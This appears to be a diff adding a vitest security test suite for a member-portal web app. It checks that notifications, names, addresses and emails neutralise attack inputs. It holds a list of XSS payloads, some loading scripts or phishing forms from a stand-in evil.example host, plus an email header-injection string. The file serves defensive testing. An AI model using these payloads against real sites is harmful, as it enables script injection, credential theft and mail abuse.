@@ -1,0 +1,206 @@
+import { readdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import PostalMime from 'postal-mime';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { applicationContract, registration } from '../../domain/application/application.contract.ts';
+import { asHtml, asText } from '../platform/mail/layout.ts';
+import type { Letter } from '../platform/mail/letter.ts';
+import { folderMailer } from '../platform/mail/mailer.ts';
+import { aLoggedInClient } from '../testing/builders.ts';
+import { confirmedInvoice, withDemoFees } from '../testing/invoicingBuilders.ts';
+import { registerAndRead } from '../testing/registrations.ts';
+import { startTestServer, type TestServer, testAssociation } from '../testing/testServer.ts';
+
+/** Texts that would run, load or disguise something if they were taken for markup anywhere. */
+const payloads = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert`1`>',
+  '"><svg onload=alert(1)>',
+  "'><body onload=alert(1)>",
+  '<svg><animate onbegin=alert(1) attributeName=x>',
+  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="data:text/html,<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">Rechnung</a>',
+  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
+  '<a href="\tjava\nscript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="https://evil.example" target="_blank" onclick="x()" style="position:fixed;inset:0">Bank</a>',
+  '<form action="https://evil.example"><input name=password><button>Login</button></form>',
+  '<style>*{background:url(https://evil.example/x)}</style>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<video><source onerror=alert(1)></video>',
+  '<details open ontoggle=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<template><script>alert(1)</script></template>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u003cimg src=x onerror=alert(1)\u003e',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<x onclick=alert(1)>',
+  '</title><script>alert(1)</script>',
+  '{{constructor.constructor("alert(1)")()}}',
+];
+
+let server: TestServer;
+beforeAll(async () => {
+  server = await startTestServer();
+  await withDemoFees(server);
+});
+afterAll(() => server.stop());
+
+describe('news', () => {
+  test.each(payloads)('%s in the HTML becomes harmless, in the title stays text', async (payload) => {
+    const { client, household } = await aLoggedInClient(server);
+    const path = `/api/v1/household/${household.household_id}/notification`;
+
+    const { status } = await client.send('POST', path, { title: payload, data: `<p>Guten Tag</p>${payload}` });
+    const { body } = await client.send('GET', '/api/v1/household/notifications');
+
+    const [news] = body as { data: { title: string; data: string } }[];
+    expect(status).toBe(201);
+    expect(news?.data.title).toBe(payload);
+    expect(liveMarkup(news?.data.data ?? '')).toEqual([]);
+  });
+
+  test('what got into the table by another way is made harmless on the way out', async () => {
+    const { client, household } = await aLoggedInClient(server);
+    const rows = payloads.map((payload, index) => ({
+      household_id: household.household_id,
+      effect_key: `trust/${index}`,
+      title: 'x',
+      body_html: payload,
+      created_at: server.clock.now(),
+    }));
+    await server.ground.db.insertInto('notifications').values(rows).execute();
+
+    const { body } = await client.send('GET', '/api/v1/household/notifications');
+
+    expect((body as { data: { data: string } }[]).flatMap(({ data }) => liveMarkup(data.data))).toEqual([]);
+  });
+});
+
+describe('a name', () => {
+  test.each(payloads)('like %s is no name', (payload) => {
+    const { success } = registration.shape.first_name.safeParse(payload);
+
+    expect(success).toBe(false);
+  });
+
+  test('of letters that look like markup in mails and answers stays text', async () => {
+    const client = server.client();
+    const { email } = await registerAndRead(server, client, { first_name: "O'Brien", last_name: 'Şen-Öz' });
+
+    const [mail] = server.mails.filter(({ to }) => to === email);
+
+    expect(mail?.html).toContain('O&#39;Brien Şen-Öz');
+    expect(liveMarkupInMail(mail?.html ?? '')).toEqual([]);
+  });
+});
+
+describe('everything a member can type', () => {
+  test.each(payloads)('%s comes back as the text it was, as JSON that no browser shows', async (payload) => {
+    const { client, household } = await aLoggedInClient(server, { status: 'active' });
+    const id = household.main_member_id;
+    const grave = { graveyard: payload, grave_user: payload, city: payload.slice(0, 90) };
+    const home = { street: payload, postal_code: '1100', state: payload, city: payload, country_id: 40 };
+
+    const stored = [
+      await client.send('POST', `/api/v1/member/${id}/burial-place`, grave),
+      await client.send('POST', `/api/v1/member/${id}/address`, home),
+    ];
+    const me = await client.call(applicationContract.getMe);
+
+    for (const { status } of stored) expect(status).toBe(201);
+    const { main_member } = me.body as { main_member: { addresses: { street?: string; graveyard?: string }[] } };
+    expect(main_member.addresses).toContainEqual(
+      expect.objectContaining({ graveyard: payload.normalize('NFC').trim() }),
+    );
+    expect(main_member.addresses).toContainEqual(expect.objectContaining({ street: payload.normalize('NFC').trim() }));
+    expect(me.headers).toMatchObject({
+      'content-type': 'application/json; charset=utf-8',
+      'x-content-type-options': 'nosniff',
+      'content-security-policy': "default-src 'none'; frame-ancestors 'none'; sandbox",
+    });
+  });
+});
+
+describe('mails', () => {
+  test.each(payloads)('a letter that says %s says it, and does nothing', async (payload) => {
+    const letter: Letter = {
+      language: 'de',
+      subject: payload,
+      greeting: `Guten Tag ${payload},`,
+      paragraphs: [payload, 'zweite Zeile\nmit Umbruch'],
+      button: { label: payload, url: 'http://localhost:8080/member-ui/?a=1&b=2' },
+      notes: [payload],
+      closing: payload,
+    };
+    const html = asHtml(letter, { ...testAssociation, name: payload });
+
+    expect(liveMarkupInMail(html)).toEqual([]);
+    expect(bracketsOf(html).filter((bracket) => bracket.startsWith('<a '))).toHaveLength(1);
+    expect(asText(letter, testAssociation)).toContain(payload);
+  });
+
+  test('a name cannot add a recipient, a header or a part', async () => {
+    const folder = join(server.folder, 'mail-injection');
+    const evil = 'Ayşe\r\nBcc: everybody@evil.example\r\n\r\n<script>alert(1)</script>';
+    const base = { id: 1, language: 'de', attachments: [], sentAt: server.clock.now(), html: '<p>x</p>', text: 'x' };
+
+    await folderMailer(folder).send({ ...base, from: { name: evil, address: 'a@b.at' }, to: 'x@y.at', subject: evil });
+
+    const [name] = await readdir(folder);
+    const mail = await PostalMime.parse(await readFile(join(folder, String(name))));
+    expect(mail.bcc ?? []).toEqual([]);
+    expect(mail.to?.map(({ address }) => address)).toEqual(['x@y.at']);
+    expect(mail.html?.trim()).toBe('<p>x</p>');
+  });
+
+  test('every mail that the product has sent here has no live markup but its own links', async () => {
+    const { client } = await aLoggedInClient(server, { first_name: "D'Arc", last_name: 'Öz' });
+    await confirmedInvoice(client);
+    await server.runJobs();
+
+    expect(server.mails.length).toBeGreaterThan(1);
+    expect(server.mails.flatMap(({ html }) => liveMarkupInMail(html))).toEqual([]);
+  });
+});
+
+/** A link of ours, to the portal itself. */
+const OWN_LINK = /^<a href="http:\/\/localhost:8080\/member-ui\/[^"<>]*" style="[\w\s:;#%.-]*">$/;
+
+/** What may stand between angle brackets, letter by letter: no parser's idea of the rest matters. */
+const HARMLESS = [
+  /^<\/?(p|strong|b|em|i|u|ul|ol|li|h[234]|blockquote|a)>$/,
+  /^<br( \/)?>$/,
+  /^<a( href="(https:\/\/|mailto:|\/member-ui\/)[^"<>\s]*")?( rel="noopener noreferrer")?>$/,
+];
+const FRAME = [
+  /^<!doctype html>$/,
+  /^<\/?(html|head|body|title|div)>$/,
+  /^<html lang="(de|tr|en)">$/,
+  /^<meta charset="utf-8">$/,
+  /^<(body|div|p) style="[\w\s:;#%./-]*">$/,
+];
+
+/** Every bracket in a piece of HTML that opens something other than simple text markup. */
+function liveMarkup(html: string): string[] {
+  return bracketsOf(html).filter((bracket) => !HARMLESS.some((pattern) => pattern.test(bracket)));
+}
+
+/** The same of a whole mail: its frame is ours, and so are its links. */
+function liveMarkupInMail(html: string): string[] {
+  return liveMarkup(html).filter((bracket) => ![...FRAME, OWN_LINK].some((pattern) => pattern.test(bracket)));
+}
+
+function bracketsOf(html: string): string[] {
+  return html.match(/<[^>]*>?/g) ?? [];
+}
